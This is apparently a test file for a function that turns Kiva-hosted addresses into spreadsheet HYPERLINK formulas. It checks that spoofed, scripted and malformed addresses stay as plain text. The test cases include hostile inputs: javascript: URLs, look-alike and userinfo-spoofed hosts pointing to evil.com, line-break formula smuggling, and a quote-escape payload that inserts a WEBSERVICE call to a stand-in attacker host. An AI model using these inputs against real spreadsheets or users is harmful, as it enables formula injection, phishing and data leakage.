import fc from 'fast-check';
import { fitsFormula, linkFormula } from '../../../src/core/writeBack/linkFormula';
import { KIVA_LINK_HOSTS, linkHosts } from '../../../src/core/writeBack/linkHosts';

const HOSTS = linkHosts([
  { id: 'sandbox', apiBase: 'https://localhost:8443/sandbox' },
  { id: 'production', apiBase: 'https://partner-api.example' },
]);

describe('linkFormula', () => {
  it.each([
    'https://www.kiva.org/journals/1',
    'https://kiva.org',
    'https://kiva.org/?a=1&b=2#x',
    'https://pa2.stage.kiva.org:443/j?id=%20',
    'https://localhost:8443/sandbox/pa2/journals/1',
    'HTTPS://WWW.KIVA.ORG/J',
  ])('makes a link of %s', (address) => {
    expect(linkFormula(address, HOSTS)).toEqual({
      as: 'formula',
      address,
      formula: `=HYPERLINK("${address}","${address}")`,
    });
  });

  it.each([
    ['plain http', 'http://www.kiva.org/1'],
    ['a script', 'javascript:alert(1)//kiva.org'],
    ['a script in capitals', 'JAVASCRIPT:alert(1)'],
    ['inline content', 'data:text/html,https://kiva.org'],
    ['a file', 'file:///C:/kiva.org'],
    ['a share', '\\\\evil.example\\kiva.org'],
    ['no scheme', 'www.kiva.org/1'],
    ['a host that begins like Kiva’s', 'https://kiva.org.evil.com/1'],
    ['a host that ends like Kiva’s', 'https://notkiva.org/1'],
    ['a user before the host', 'https://kiva.org@evil.com/1'],
    ['a user before Kiva’s host', 'https://evil.com@kiva.org/1'],
    ['a backslash that browsers read as a slash', 'https://evil.com\\.kiva.org/1'],
    ['a backslash in the path', 'https://kiva.org\\@evil.com'],
    ['one slash', 'https:/kiva.org/1'],
    ['three slashes', 'https:///kiva.org/1'],
    ['a wide dot', 'https://www。kiva.org/1'],
    ['a half-wide dot', 'https://evil．kiva.org/1'],
    ['letters that look alike', 'https://kivа.org/1'],
    ['an international name in its ASCII form', 'https://xn--kiva-abc.kiva.org/1'],
    ['an international name', 'https://kíva.org/1'],
    ['a dot at the end', 'https://kiva.org./1'],
    ['an empty label', 'https://a..kiva.org/1'],
    ['a label that begins with a hyphen', 'https://-a.kiva.org/1'],
    ['another port of Kiva’s', 'https://kiva.org:8443/1'],
    ['another port of the sandbox', 'https://localhost:8444/1'],
    ['the sandbox without its port', 'https://localhost/1'],
    ['below the sandbox', 'https://evil.localhost:8443/1'],
    ['an API that is not the sandbox', 'https://partner-api.example/1'],
    ['a line break', 'https://kiva.org/1\n=1+1'],
    ['a line break before', '\nhttps://kiva.org/1'],
    ['a line break at the end', 'https://kiva.org/1\n'],
    ['a space', 'https://kiva.org/1 2'],
    ['a space before', ' https://kiva.org/1'],
    ['a tab', 'https://kiva.org/\t1'],
    ['a hidden character', 'https://kiva.org/\u200b1'],
    ['a letter that is not ASCII', 'https://kiva.org/niño'],
    ['a formula', '=HYPERLINK("https://kiva.org")'],
    ['nothing', ''],
    ['two addresses', 'https://kiva.org/1 https://kiva.org/2'],
  ])('leaves as text: %s', (_, address) => {
    expect(linkFormula(address, HOSTS)).toEqual({ as: 'text', address });
  });

  it('doubles quotes, so that nothing gets out of the text', () => {
    const address = 'https://kiva.org/"&WEBSERVICE("https://evil.example")&"';
    expect(linkFormula(address, HOSTS)).toMatchObject({
      formula:
        '=HYPERLINK("https://kiva.org/""&WEBSERVICE(""https://evil.example"")&""","https://kiva.org/""&WEBSERVICE(""https://evil.example"")&""")',
    });
  });

  it.each([
    ['x', 255, 'formula'],
    ['x', 256, 'native'],
    ['"', 138, 'formula'],
    ['"', 139, 'native'],
  ])('of %j up to %i characters is as a %s', (filler, length, as) => {
    const address = 'https://www.kiva.org/'.padEnd(length, filler);
    expect(linkFormula(address, HOSTS).as).toBe(as);
    expect(fitsFormula(address)).toBe(as === 'formula');
  });

  it('knows Kiva alone where no sandbox is offered', () => {
    expect(linkHosts([{ id: 'stage', apiBase: 'https://localhost:8443' }])).toEqual(KIVA_LINK_HOSTS);
    expect(linkHosts([{ id: 'sandbox', apiBase: 'http://localhost:8443' }])).toEqual(KIVA_LINK_HOSTS);
    expect(linkHosts([{ id: 'sandbox', apiBase: 'https://u@localhost' }])).toEqual(KIVA_LINK_HOSTS);
    expect(linkFormula('https://localhost:8443/1', KIVA_LINK_HOSTS).as).toBe('text');
    expect(linkFormula('https://www.kiva.org/1', []).as).toBe('text');
  });

  it('never lets a quote end the text, whatever the address', () => {
    const piece = fc.constantFrom(
      'https://',
      'kiva.org',
      '.',
      '/',
      '"',
      '""',
      '\\',
      '@',
      ':',
      '=',
      '\n',
      'a',
      '&',
      ')',
      ',',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), fc.boolean(), (pieces, begins) => {
        const address = (begins ? 'https://kiva.org/' : '') + pieces.join('');
        const cell = linkFormula(address, HOSTS);
        expect(cell.address).toBe(address);
        if (cell.as === 'text') return;
        expect(new URL(address)).toMatchObject({ protocol: 'https:', host: 'kiva.org', username: '', password: '' });
        if (cell.as !== 'formula') return;
        const literals = /^=HYPERLINK\("((?:[^"]|"")*)","((?:[^"]|"")*)"\)$/.exec(cell.formula);
        expect(literals?.slice(1).map((literal) => literal.replaceAll('""', '"'))).toEqual([address, address]);
      }),
      { numRuns: 2000 },
    );
  });
});
